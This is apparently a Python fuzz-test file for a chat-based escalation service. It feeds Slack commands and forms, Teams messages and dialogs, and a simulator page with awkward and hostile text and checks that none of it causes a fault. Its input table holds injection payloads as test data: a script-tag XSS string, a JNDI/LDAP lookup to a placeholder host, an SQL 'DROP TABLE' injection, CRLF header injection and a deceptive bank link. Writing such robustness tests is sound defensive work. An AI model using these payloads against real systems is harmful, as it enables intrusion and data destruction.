"""Hostile text wherever somebody types: it is taken or refused, never a fault, and never in the log."""

from collections.abc import Iterator

from tests.fuzz.caller import Request
from tests.fuzz.conftest import Office, Place
from tests.fuzz.length import on_both
from tests.fuzz.mutants import MARK, NOISE, put, text_of
from tests.fuzz.played import COMMAND
from tests.fuzz.sending import FORM, form_of

TEXTS = {
    "a zero byte": "\0",
    "half a character": "\ud83d",
    "marks that turn the direction": "\u202e\u2066\u200f\ufeff",
    "zalgo": "e" + "\u0301\u0325\u20dd" * 200,
    "a joined emoji": "👩‍👩‍👧‍👦🏳️‍🌈" * 50,
    "many": "x" * 50_000,
    "many that can't be packed": NOISE,
    "many emoji": "🔥" * 10_000,
    "a call to a whole channel": "<!channel> <!here> <!subteam^S1>",
    "a mention of Slack's": "<@U1> <#C1|general>",
    "a mention of Teams'": "<at>Warmline</at>",
    "a link": "<http://evil.example|your bank> [your bank](http://evil.example)",
    "markdown": "# *b* _i_ ~s~ `c` ```p``` > q",
    "a macro of cards": "{{DATE(2026-01-01T00:00:00Z)}} ${name} {{TIME(x)}}",
    "HTML": "<script>alert(1)</script>&lt;&amp;amp;",
    "a template": "{{ 7 * 7 }} {% raw %} ${jndi:ldap://evil}",
    "SQL": "'; DROP TABLE escalation; -- \" %s :name ?",
    "escapes": "\x1b[31m \r\n\r\nSet-Cookie: a=b \x07\x7f",
    "digits of elsewhere": "١٢٣٤ ①②③ Ⅷ ²³",
    "spaces": " \u00a0\u2003\u3000\t\n",
    "nothing": "",
}
LINES = ("{}", "4711 {}", "{} 4711", "supervisor east 4711{} {}", "status{}", "help {}")


@on_both
def test_hostile_commands_in_slack_are_no_fault_of_ours(office: Office) -> None:
    def typed() -> Iterator[tuple[str, Request]]:
        for command in ("/escalate", "/leads", "/busy", "/available", "/callbacks"):
            for what, line in _lines() if command == "/escalate" else _texts():
                fields = {**office.played.slack[COMMAND], "trigger_id": _trigger(office)} | {"command": command}
                fields["text"] = line
                told = tuple((name, _bytes(str(value))) for name, value in fields.items())
                yield f"{command} with {what}", office.slack.form(told)

    office.run(office.watched.ask_all(typed()))
    assert office.watched.faults == []


@on_both
def test_hostile_fields_in_slack_are_no_fault_of_ours(office: Office) -> None:
    def sent() -> Iterator[tuple[str, Request]]:
        form = office.played.slack["a form"]
        for name, inputs in form["view"]["state"]["values"].items():
            (element,) = inputs
            for what, text in _texts():
                tree = put(form, ("trigger_id",), _trigger(office))
                tree = put(tree, ("view", "state", "values", "account", "account", "value"), "8844")
                tree = put(tree, ("view", "state", "values", "issue", "issue", "value"), "it rings")
                tree = put(tree, ("view", "state", "values", name, element, "value"), text)
                yield f"{name} with {what}", office.slack.payload(text_of(tree))

    office.run(office.watched.ask_all(sent()))
    assert office.watched.faults == []


@on_both
def test_hostile_messages_and_fields_in_teams_are_no_fault_of_ours(office: Office) -> None:
    def told() -> Iterator[tuple[str, Request]]:
        said, form = office.played.teams["a message"], office.played.teams["a dialog that was sent"]
        for what, line in _lines():
            tree = put(put(said, ("id",), f"said {what}"), ("text",), f"escalate {line}")
            yield f"a message with {what}", office.microsoft.body(text_of(tree).encode())
        for name in ("account", "issue", "caller_name", "number", "wants", "region"):
            for what, text in _texts():
                tree = put(put(form, ("id",), f"sent {name} {what}"), ("value", "data", name), text)
                yield f"{name} with {what}", office.microsoft.body(text_of(tree).encode())

    office.run(office.watched.ask_all(told()))
    assert office.watched.faults == []


def test_hostile_text_on_the_simulators_page_is_no_fault_of_ours(simulator: Place) -> None:
    def typed() -> Iterator[tuple[str, Request]]:
        for number, (what, line) in enumerate(_lines()):
            fields = (("by", b"ana"), ("line", _bytes(f"/escalate {line}")), ("request", b"line-%d-word" % number))
            yield f"a line with {what}", _post("/act/command", fields)
        for field in ("by", "intent", "subject", "look", "request", "field.account", "field.issue"):
            for number, (what, text) in enumerate(_texts()):
                told = {"by": b"ana", "intent": b"escalate", "subject": b"new", "field.account": b"4711"}
                told |= {"request": f"{field}-{number}-word".encode().replace(b".", b"-"), "field.issue": b"it rings"}
                yield f"{field} with {what}", _post("/act/submit", tuple((told | {field: _bytes(text)}).items()))
        yield "the page", Request("GET", "/", ((b"host", b"localhost"),))

    simulator.run(simulator.watched.ask_all(typed()))
    assert simulator.watched.faults == []


def _texts() -> Iterator[tuple[str, str]]:
    for what, text in TEXTS.items():
        yield what, f"{MARK}{text}{MARK}" if text else text


def _lines() -> Iterator[tuple[str, str]]:
    for what, text in _texts():
        for line in LINES:
            yield f"{what} in {line}", line.replace("{}", text)


def _post(path: str, fields: tuple[tuple[str, bytes], ...]) -> Request:
    body = form_of(fields)
    length = str(len(body)).encode()
    headers = ((b"host", b"localhost"), (b"content-type", FORM), (b"content-length", length), (b"x-live", b"yes"))
    return Request("POST", path, headers, body)


def _bytes(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")


def _trigger(office: Office) -> str:
    return office.chats.slack.new_trigger(office.chats.slack_users["ana"])
